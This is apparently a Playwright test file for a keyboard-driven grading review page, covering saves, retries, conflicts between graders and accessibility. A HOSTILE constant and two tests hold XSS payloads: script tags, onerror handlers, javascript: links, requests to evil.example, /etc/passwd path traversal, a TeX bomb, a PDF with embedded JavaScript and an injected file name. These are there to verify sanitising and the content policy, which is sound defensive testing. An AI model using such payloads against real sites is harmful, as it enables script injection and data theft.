"""The review page in a real browser, by keys alone: nothing is lost, nothing doubled, and nothing of a submission runs.

Screenshots are kept in build/review.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from fractions import Fraction
from pathlib import Path
from typing import Any

import pytest
from reviewed import HOMEWORK, REPOSITORY, STUDENTS, Server, answered, picture, write_class

from grader.book.rows import LONGEST_TEXT
from grader.book.store import Book
from grader.hand.marking import Marking

SHOTS = REPOSITORY / "build" / "review"
PATIENCE_MS = 90_000
Start = Callable[..., Server]
Begin = Callable[..., str]


@dataclass
class Window:
    """A page of one grader, and what went wrong in it."""

    page: Any
    server: Server
    told: list[str] = field(default_factory=list)  # by the console, dialogs, and requests to elsewhere

    @classmethod
    def open(cls, context: Any, server: Server) -> Window:
        page = context.new_page()
        page.set_default_timeout(PATIENCE_MS)
        window = cls(page, server)
        page.on("console", lambda message: window.told.append(f"console: {message.text}"))
        page.on("pageerror", lambda error: window.told.append(f"error: {error}"))
        page.on("dialog", lambda dialog: (window.told.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        page.on("request", lambda request: window.note(request.url))
        page.goto(server.address)
        window.ready()
        return window

    def note(self, url: str) -> None:
        if not url.startswith(f"http://127.0.0.1:{self.server.port}/"):
            self.told.append(f"request: {url}")

    def ready(self) -> None:
        """Waits until an answer is shown."""
        self.page.wait_for_selector(
            "#answer .written, #answer .nothing, #answer section.pdf, #answer figure, #answer pre"
        )

    def press(self, *keys: str) -> None:
        for key in keys:
            self.page.keyboard.press(key)

    def saved(self) -> None:
        self.page.wait_for_selector("#saving[data-state=saved]")

    @property
    def where(self) -> str:
        return str(self.page.inner_text("#where"))

    def go(self, key: str) -> None:
        """Presses a key that leads to another answer, and waits for it."""
        before = self.page.evaluate("location.hash")
        self.press(key)
        self.page.wait_for_function("before => location.hash !== before", arg=before)
        self.ready()

    def shot(self, name: str, **more: Any) -> None:
        SHOTS.mkdir(parents=True, exist_ok=True)
        self.page.screenshot(path=SHOTS / f"{name}.png", **more)


@pytest.fixture
def opened(chromium: Any) -> Iterator[Callable[[Server], Window]]:
    contexts = []

    def open_window(server: Server) -> Window:
        contexts.append(chromium.new_context(viewport={"width": 1300, "height": 900}))
        return Window.open(contexts[-1], server)

    yield open_window
    for context in contexts:
        context.close()


def given(url: str) -> dict[tuple[str, str], tuple[str, Marking]]:
    with Book.open(url) as book:
        return {key: (each.who, each.marking) for key, each in book.markings(HOMEWORK).items()}


def doubled(url: str) -> list[object]:
    """Markings that say again what the one before said."""
    last: dict[object, object] = {}
    found = []
    with Book.open(url) as book:
        for each in book.all_markings(HOMEWORK):
            key, said = (each.student, each.question), (each.who, each.marking)
            if last.get(key) == said:
                found.append((key, said))
            last[key] = said
    return found


def test_what_the_server_refuses_without_a_reason_is_no_silence(
    served: Start, book_of: Begin, opened: Callable[[Server], Window]
) -> None:
    """403 and 500 are tried again, and say what to do; a marking that is wrong is not, and nobody says that it is."""
    window = opened(served(book_of(STUDENTS[:2])))
    answers = iter([(403, "Not you.\n"), (500, "<html>"), *[(422, '{"wrong": "no such item"}')] * 9])
    said = list[str]()

    def refuse(route: Any) -> None:
        status, body = next(answers)
        route.fulfill(status=status, body=body)

    window.page.route("**/api/save", refuse)
    window.page.expose_function("heard", lambda told: said.append(told))
    window.page.evaluate(
        "new MutationObserver(() => heard(document.querySelector('#saving').outerHTML))"
        ".observe(document.querySelector('#saving'), { childList: true, attributes: true, subtree: true })"
    )
    window.press("1")
    window.page.wait_for_selector("#saving:has-text('NOT saved – look at it')")
    told = "\n".join(said)
    for status in (403, 500):
        assert f"the server says {status}: open the address in the terminal again" in told
    assert "does not answer" not in told
    assert "try again" not in window.page.inner_text("#saving")


def test_thirty_answers_by_keys_alone_while_the_server_is_killed_and_comes_back(
    served: Start, book_of: Begin, opened: Callable[[Server], Window]
) -> None:
    url = book_of(STUDENTS[:10])
    server = served(url)
    window = opened(server)
    window.shot("first")
    expected = {}
    for number in range(30):
        question, student = ("1a", "1b", "2")[number // 10], STUDENTS[number % 10]
        assert window.where.startswith(f"{question}. ")
        assert f"answer {number % 10 + 1} of 10" in window.where
        if number == 14:
            server.kill()  # in the middle: this answer is marked while there is no server
        if question == "1a":
            keys, items = ("1", "3"), ("reason", "third")
        elif question == "1b":
            keys, items = ("1", "0", "b", "d"), ("step1", "step10", "step11", "step13")
        else:
            keys, items = ("1",), ("done",)
        window.press(*keys)
        adjustment, comment = Fraction(0), ""
        if number % 5 == 0:
            window.press("a")
            window.page.keyboard.type("-0.25")
            window.press("Escape")
            adjustment = Fraction(-1, 4)
        if number % 4 == 2:
            window.press("f")
            window.page.keyboard.type(f"No. {number}, ngu.")
            window.press("Escape")
            comment = f"No. {number}, ngu."
        expected[student, question] = ("ada", Marking(items, adjustment, comment))
        if number == 14:
            window.page.wait_for_selector("#saving[data-state=failed]")
            assert "NOT saved – will try again" in window.page.inner_text("#saving")
            window.shot("not-saved")
            server.start()
            window.saved()
        if number < 29:
            window.go("g" if number % 3 else "n" if number % 2 else "u")
    window.saved()
    window.shot("last")
    window.page.wait_for_function("() => document.querySelector('#left').textContent.startsWith('All 30')")
    assert given(url) == expected
    assert doubled(url) == []
    assert [line for line in window.told if "ERR_CONNECTION" not in line] == []


def test_what_was_not_saved_outlives_the_window(
    served: Start, book_of: Begin, opened: Callable[[Server], Window]
) -> None:
    url = book_of(STUDENTS[:2])
    server = served(url)
    window = opened(server)
    context = window.page.context
    server.kill()
    window.press("1", "f")
    window.page.keyboard.type("Not lost")
    window.page.wait_for_selector("#saving[data-state=failed]")
    window.page.close(run_before_unload=False)
    assert given(url) == {}
    server.start()
    again = Window.open(context, server)
    again.saved()
    assert given(url) == {("s01", "1a"): ("ada", Marking(("reason",), Fraction(0), "Not lost"))}
    assert again.page.input_value("#comment") == ""  # the next answer is shown: this one is marked
    again.go("p")
    assert again.page.input_value("#comment") == "Not lost"


def test_two_graders_share_a_class_and_overwrite_nothing_unseen(
    served: Start, book_of: Begin, opened: Callable[[Server], Window]
) -> None:
    url = book_of(STUDENTS)
    ada = opened(served(url, "ada", "--question", "2"))
    alan = opened(served(url, "alan", "--question", "2"))
    alan.go("u")
    for number in range(5):
        for window, key in ((ada, "1"), (alan, "z")):
            window.press(key)
            window.saved()
            if number < 4:
                window.go("g")
    marked = given(url)
    assert sorted(who for who, _ in marked.values()) == ["ada"] * 5 + ["alan"] * 5
    assert doubled(url) == []
    with Book.open(url) as book:
        assert len(book.all_markings(HOMEWORK)) == 10
    # Both at one answer, and alan has not heard of what ada did there.
    for window in (ada, alan):
        window.page.evaluate("location.hash")
        while "answer 12 of 12" not in window.where:
            window.go("n")
    told = "() => document.querySelector('#whose').textContent.includes('ada looks at this answer, too.')"
    alan.page.wait_for_function(told)  # an answer is shown before it is known who else looks at it
    alan.page.route("**/api/changes*", lambda route: route.abort())
    ada.press("1")
    ada.saved()
    alan.press("z")
    alan.go("p")  # and on to another answer: the page stays there, and a button leads back
    alan.page.get_by_role("button", name="1 answer needs you").press("Enter")
    alan.page.wait_for_selector("#conflict:not([hidden])")
    assert "answer 12 of 12" in alan.where
    alan.page.wait_for_function("() => document.activeElement.id === 'where'")
    alan.press("1", "z", "g")  # of no effect until it is decided
    assert alan.page.evaluate("document.activeElement.id") == "where"
    assert "You: 0 of 1" in alan.page.inner_text("#conflict")
    assert "ada marked this answer meanwhile" in alan.page.inner_text("#conflict")
    alan.shot("two-graders")
    assert given(url)["s12", "2"] == ("ada", Marking(("done",)))
    alan.page.get_by_role("button", name="Put mine in its place").press("Enter")
    alan.saved()
    assert given(url)["s12", "2"] == ("alan", Marking())
    alan.page.unroute("**/api/changes*")
    alan.page.wait_for_function("() => document.querySelector('#graders').textContent.includes('ada')")
    ada.page.wait_for_function("() => document.querySelector('#marked-by').textContent.includes('alan')")
    ada.shot("progress")
    assert ada.told == []


WRITING = "not quite: 3 or 4 lines more, 5 axes, and"
HERS = ("grace", Marking(("figure",), Fraction(0), "By grace."))


def of_grace(url: str) -> None:
    """Grace marks the first answer, and the page has not heard of it."""
    with Book.open(url) as book:
        book.mark("s01", HOMEWORK, "1a", HERS[1], who=HERS[0])


def held(window: Window) -> Callable[[], None]:
    """Keeps all saves of a page on their way; what comes back lets them go on."""
    waiting, gone = list[Any](), list[bool]()
    window.page.route("**/api/save", lambda route: route.continue_() if gone else waiting.append(route))

    def let_go() -> None:
        gone.append(True)
        for route in waiting:
            route.continue_()

    return let_go


def test_a_late_refusal_takes_no_letters_from_what_is_written_about_another_answer(
    served: Start, book_of: Begin, opened: Callable[[Server], Window]
) -> None:
    url = book_of(STUDENTS[:3])
    window = opened(served(url))
    let_go = held(window)
    of_grace(url)
    window.press("1")  # refused, and the refusal is slow
    window.go("n")
    window.press("f")
    window.page.keyboard.type(WRITING[:20])
    let_go()
    window.page.wait_for_selector("#needs:has-text('1 answer needs you')")
    window.page.keyboard.type(WRITING[20:] + " ")
    window.press("Enter", "Escape")
    assert "answer 2 of 3" in window.where
    window.page.wait_for_selector("#saving:has-text('NOT saved – look at it'):not(:has-text('('))")
    assert given(url) == {("s01", "1a"): HERS, ("s02", "1a"): ("ada", Marking((), Fraction(0), f"{WRITING} \n"))}
    window.page.click("#needs")
    window.page.wait_for_selector("#conflict:not([hidden])")
    assert "answer 1 of 3" in window.where
    window.page.get_by_role("button", name="Keep theirs").click()
    window.saved()
    assert window.page.is_hidden("#needs")
    assert given(url)["s01", "1a"] == HERS
    assert [line for line in window.told if "(Conflict)" not in line] == []


def test_a_refusal_takes_no_letters_from_what_is_written_about_its_own_answer(
    served: Start, book_of: Begin, opened: Callable[[Server], Window]
) -> None:
    url = book_of(STUDENTS[:2])
    window = opened(served(url))
    let_go = held(window)
    of_grace(url)
    window.press("1", "f")
    window.page.keyboard.type(WRITING[:20])
    let_go()
    window.page.wait_for_selector("#conflict:not([hidden])")
    window.page.keyboard.type(WRITING[20:])
    assert window.page.input_value("#comment") == WRITING
    window.press("Escape", "3", "z", "g")
    assert "answer 1 of 2" in window.where
    assert given(url) == {("s01", "1a"): HERS}
    window.page.focus("#comment")
    window.press("End")
    window.page.keyboard.type(".")
    window.page.focus("#replace")
    window.press("Enter")
    window.saved()
    assert given(url)["s01", "1a"] == ("ada", Marking(("reason",), Fraction(0), f"{WRITING}."))


def test_the_button_that_has_the_focus_keeps_it_when_the_page_shows_itself_anew(
    served: Start, book_of: Begin, opened: Callable[[Server], Window]
) -> None:
    url = book_of(STUDENTS[:2])
    window = opened(served(url))
    window.page.route("**/api/changes*", lambda route: route.abort())
    of_grace(url)
    window.press("1")
    window.page.focus("#replace")
    with Book.open(url) as book:
        book.mark("s02", HOMEWORK, "1a", Marking(), who="grace")
    window.page.unroute("**/api/changes*")
    window.page.wait_for_selector("#questions button:has-text('2/2')")
    assert window.page.evaluate("document.activeElement.id") == "replace"


def test_an_answer_that_comes_late_takes_no_letters_either(
    served: Start, book_of: Begin, opened: Callable[[Server], Window]
) -> None:
    """The next answer was asked for, and the server took its time: who writes meanwhile stays, and no key is its."""
    url = book_of(STUDENTS[:3])
    window = opened(served(url))
    waiting = list[Any]()
    window.page.route("**/api/next", lambda route: waiting.append(route))
    window.press("1", "g", "3", "f")  # 3 was meant for the next one
    window.page.keyboard.type("A reason, and 4.")
    with window.page.expect_response("**/api/next"):
        waiting.pop().continue_()
    window.page.wait_for_selector("#said:has-text('You write here, so the page stays.')", state="attached")
    window.press("Escape")
    window.saved()
    assert given(url) == {("s01", "1a"): ("ada", Marking(("reason",), Fraction(0), "A reason, and 4."))}
    window.page.route("**/answer/*", lambda route: waiting.append(route))
    window.press("p", "n", "n", "f")  # the third answer is still being fetched
    window.page.keyboard.type("2 zones")
    window.page.wait_for_timeout(200)
    while waiting:
        waiting.pop().continue_()
    window.page.wait_for_function("() => document.activeElement.id === 'comment'")
    assert "answer 3 of 3" in window.where
    assert len(given(url)) == 1


def test_a_comment_that_was_too_long_is_saved_once_it_is_shorter(
    served: Start, book_of: Begin, opened: Callable[[Server], Window]
) -> None:
    url = book_of(STUDENTS[:2])
    window = opened(served(url))
    assert window.page.evaluate("document.querySelector('#comment').maxLength") == LONGEST_TEXT
    window.page.evaluate(  # as an offered comment may, which is put below what stands there
        "text => { const field = document.querySelector('#comment'); field.value = text;"
        " field.dispatchEvent(new Event('input')); }",
        "x" * (LONGEST_TEXT + 1),
    )
    window.page.wait_for_selector("#wrong:has-text('at most 10000 characters')")
    window.page.fill("#comment", "Short.")
    window.saved()
    assert given(url) == {("s01", "1a"): ("ada", Marking((), Fraction(0), "Short."))}


def test_a_question_that_leaves_the_rubric_is_said_and_passed_over(
    served: Start, book_of: Begin, opened: Callable[[Server], Window]
) -> None:
    url = book_of(STUDENTS[:2])
    server = served(url)
    window = opened(server)
    window.page.route("**/api/changes*", lambda route: route.abort())  # the page has not heard of it
    with Book.open(url) as book:
        rubric = book.rubric(HOMEWORK)
        assert rubric is not None
        book.enter_rubric(rubric.model_copy(update={"questions": rubric.questions[1:]}), who="t", why="t")
    window.press("1")
    window.page.wait_for_selector("#wrong:has-text('does not have question 1a any more')")
    window.page.unroute("**/api/changes*")
    window.page.wait_for_selector("#where:has-text('1a. Not in the rubric any more: answer 1 of 2')")
    window.page.click("#keep:has-text('Let mine go')")
    window.saved()
    window.press("z", "1", "f")
    window.page.keyboard.type("now 1")  # no command, as there is no field
    assert window.where.startswith("1a. ")
    window.press("Escape")
    window.go("u")
    assert window.where.startswith("1b. How: answer 1 of 2")
    window.press("1")
    window.saved()
    window.page.goto("about:blank")
    window.page.goto(server.address)
    window.page.wait_for_selector("#where:has-text('1b. How: answer 2 of 2')")
    assert "3 of 4 answers" in window.page.inner_text("#left")
    assert given(url) == {("s01", "1b"): ("ada", Marking(("step1",)))}
    assert [line for line in window.told if "ERR_FAILED" not in line and "422" not in line] == []


def test_a_page_that_outlives_its_server_shows_what_was_handed_in_since(
    served: Start, book_of: Begin, opened: Callable[[Server], Window], tmp_path: Path
) -> None:
    submissions = write_class(tmp_path / "class", ["s01"])
    server = served(book_of(["s01"]), submissions=submissions)
    window = opened(server)
    window.page.wait_for_function("() => document.querySelector('#answer img')?.naturalWidth === 120")
    window.press("f")
    window.page.keyboard.type("Half")
    server.kill()
    (submissions / "s01" / "written.md").write_text(answered(q1a="Another reason. ![why](why.png)"))
    (submissions / "s01" / "why.png").write_bytes(picture(60, 40))
    server.start()
    window.page.wait_for_selector("#answer:has-text('Another reason.')")
    window.page.wait_for_function("() => document.querySelector('#answer img')?.naturalWidth === 60")
    window.page.keyboard.type(" of it.")
    window.saved()
    assert given(server.url) == {("s01", "1a"): ("ada", Marking((), Fraction(0), "Half of it."))}


def test_what_somebody_else_writes_is_not_replaced_by_who_was_writing_already(
    served: Start, book_of: Begin, opened: Callable[[Server], Window]
) -> None:
    url = book_of(STUDENTS[:2])
    window = opened(served(url))
    window.press("f")
    of_grace(url)
    with Book.open(url) as book:
        book.mark("s02", HOMEWORK, "1a", Marking(), who="grace")
    window.page.wait_for_selector("#left:has-text('5 of 6'), #left:has-text('4 of 6')")
    window.page.keyboard.type("Hers is not seen here.")
    window.page.wait_for_selector("#conflict:not([hidden]):has-text('By grace.')")
    assert given(url)["s01", "1a"] == HERS


HOSTILE = """<script>alert('script')</script>
<img src=x onerror="alert('onerror')"><img src="http://evil.example/pixel.png">
![remote](http://evil.example/x.png) ![protocol](//evil.example/y.png) ![file](file:///etc/passwd)
![up](../../../../etc/passwd) ![huge](huge.png) ![broken](broken.png)
[click](javascript:alert('link')) <a href="javascript:alert('a')" onclick="alert('click')">raw link</a>
<svg onload="alert('svg')"><script>alert('svg script')</script></svg>
<iframe src="http://evil.example/"></iframe><style>body { display: none }</style>
<div style="position:fixed;inset:0;background:red" id="saving" class="main">over everything</div>
<form action="http://evil.example/"><input autofocus onfocus="alert('focus')"><button>send</button></form>
<meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/">
<details open ontoggle="alert('toggle')"><summary>more</summary>text</details>

$\\href{javascript:alert('formula')}{x}$ $\\def\\x{\\x\\x}\\x$ $DEEP$ $$\\text{<script>alert('tex')</script>}$$

<img src="&lt;b&gt;.png">
"""


def test_a_hostile_submission_runs_nothing_and_fetches_nothing(
    served: Start, book_of: Begin, opened: Callable[[Server], Window], tmp_path: Path
) -> None:
    submissions = write_class(tmp_path / "class", ["s01"])
    place, bomb = submissions / "s01", HOSTILE.replace("DEEP", "{" * 3000 + "}" * 3000)
    (place / "written.md").write_text(answered(q1a=bomb, q1b=bomb, q2="An honest end."))
    (place / "huge.png").write_bytes(picture(50_000, 50_000))
    (place / "broken.png").write_bytes(b"\x89PNG\r\n\x1a\nbroken")
    (place / "why.png").write_bytes(picture(60, 40))
    (place / "<img src=x onerror=alert('name')>.png").write_bytes(picture(60, 40))
    (place / "written.pdf").write_bytes(b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n")
    url = book_of(["s01"])
    window = opened(served(url, submissions=submissions))
    window.page.wait_for_function(
        "() => document.querySelector('#answer').textContent.includes('50,000 × 50,000 pixels')"
    )
    window.page.wait_for_function(
        "() => document.querySelector('#answer').textContent.includes('no picture that can be read')"
    )
    window.page.wait_for_function("() => document.querySelector('#answer').textContent.includes('cannot be shown')")
    window.page.wait_for_function("() => document.querySelector('#answer img')?.complete")
    window.shot("hostile", full_page=True)
    elements = window.page.evaluate(
        "[...document.querySelectorAll('#answer *')].map(e => [e.localName, ...e.getAttributeNames()])"
    )
    names = {name for name, *_ in elements}
    assert not names & {"script", "iframe", "svg", "form", "input", "style", "meta", "base", "a", "link", "object"}
    assert not {
        attribute for _, *attributes in elements for attribute in attributes if re.match("on|style|id$", attribute)
    }
    assert window.page.evaluate("getComputedStyle(document.body).display") == "grid"
    window.press("1")
    window.saved()
    window.go("n")
    window.go("n")
    assert "An honest end." in window.page.inner_text("#answer")
    assert window.told == []
    assert given(url) == {("s01", "1a"): ("ada", Marking(("reason",)))}


def test_the_policy_stops_what_a_sanitiser_would_have_missed(
    served: Start, book_of: Begin, opened: Callable[[Server], Window]
) -> None:
    window = opened(served(book_of(STUDENTS[:1])))
    ran = window.page.evaluate(
        """async () => {
          window.ran = [];
          const place = document.querySelector("#answer");
          place.innerHTML = "<img src=x onerror=\\"ran.push('handler')\\"><img src=http://evil.example/x.png>"
            + "<p style='position:fixed'>x</p><a href=\\"javascript:ran.push('link')\\">x</a>"
            + "<form action=http://evil.example/><button>x</button></form>"
            + "<iframe srcdoc=\\"<script>parent.ran.push('frame')</script>\\"></iframe>";
          const script = document.createElement("script");
          script.textContent = "ran.push('script')";
          place.append(script);
          const away = document.createElement("script");
          away.src = "http://evil.example/x.js";
          place.append(away);
          try { await fetch("http://evil.example/"); ran.push("fetch"); } catch {}
          place.querySelector("a").click();
          place.querySelector("button").click();
          await new Promise(done => setTimeout(done, 500));
          if (getComputedStyle(place.querySelector("p")).position === "fixed") ran.push("style");
          return ran;
        }"""
    )
    assert ran == []
    assert [line for line in window.told if line.startswith(("dialog", "error"))] == []
    assert window.page.url.startswith(f"http://127.0.0.1:{window.server.port}/")


def test_it_can_be_used_by_those_who_listen_and_on_a_phone_by_day_and_night(
    served: Start, book_of: Begin, opened: Callable[[Server], Window]
) -> None:
    window = opened(served(book_of(STUDENTS[:2])))
    page = window.page
    assert page.get_by_role("checkbox", name="a reason").count() == 1
    assert page.get_by_role("status").inner_text() == "saved"
    nameless = page.evaluate(
        "[...document.querySelectorAll('button, input, textarea, summary, img')].filter(e => e.offsetParent && "
        "!(e.textContent.trim() || e.labels?.length || e.getAttribute('aria-label') || e.alt)).map(e => e.outerHTML)"
    )
    assert nameless == []
    page.get_by_role("checkbox", name="a reason").press("Space")
    page.wait_for_function(
        "() => document.querySelector('#said').textContent.includes('a reason: applies. 1 of 2 points')"
    )
    window.saved()
    assert page.evaluate("document.activeElement.id") == "item-reason"
    window.go("n")
    assert page.evaluate("document.activeElement.id") == "where"
    window.press("?")
    page.wait_for_selector("#keys[open]")
    window.shot("keys")
    window.press("Escape")
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        page.set_viewport_size({"width": 390, "height": 800})
        window.shot(f"phone-{scheme}", full_page=True)
        assert page.evaluate("document.documentElement.scrollWidth <= 390")
        page.set_viewport_size({"width": 1300, "height": 900})
        window.shot(f"desk-{scheme}")
    assert window.told == []
